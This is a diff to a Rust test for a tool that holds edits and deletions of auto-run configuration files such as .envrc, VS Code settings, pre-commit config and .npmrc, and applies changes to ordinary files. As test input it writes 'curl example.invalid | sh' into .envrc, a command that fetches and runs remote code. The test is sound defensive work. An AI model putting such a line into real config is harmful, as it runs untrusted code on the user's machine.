@@ -39,18 +39,32 @@ fn a_new_auto_run_entry_is_refused_at_the_top_and_at_any_depth_naming_its_progra
 }
 
 #[test]
-fn an_edit_of_an_existing_entry_is_held_and_a_deletion_applied() {
+fn an_edit_or_a_deletion_of_an_existing_entry_is_held() {
     let j = Case::new()
         .host_file(".envrc", "use flake\n")
         .host_file("svc/.envrc", "layout python\n")
         .host_file(".vscode/settings.json", "{}")
+        .host_file(".pre-commit-config.yaml", "repos: []\n")
+        .host_file(".npmrc", "ignore-scripts=true\n")
+        .host_file(".gitignore", "target\n")
+        .host_file("notes.txt", "mine\n")
         .write(".envrc", b"use flake\ncurl example.invalid | sh\n")
         .write(".vscode/settings.json", b"{\"x\": 1}")
         .delete("svc/.envrc")
+        .delete(".pre-commit-config.yaml")
+        .delete(".npmrc")
+        .delete(".gitignore")
+        .delete("notes.txt")
         .judge();
     assert_eq!(j.held(".envrc", "auto-run-modified").program, "direnv");
     j.held(".vscode/settings.json", "auto-run-modified");
-    j.applied("svc/.envrc");
+    assert_eq!(j.held("svc/.envrc", "auto-run-deleted").program, "direnv");
+    j.held(".pre-commit-config.yaml", "auto-run-deleted");
+    // A deleted `ignore-scripts=true` would make the next `npm install` run scripts.
+    assert_eq!(j.held(".npmrc", "project-config").program, "npm, pnpm");
+    // What is inert, and ordinary files, are deleted.
+    j.applied(".gitignore");
+    j.applied("notes.txt");
 }
 
 #[test]
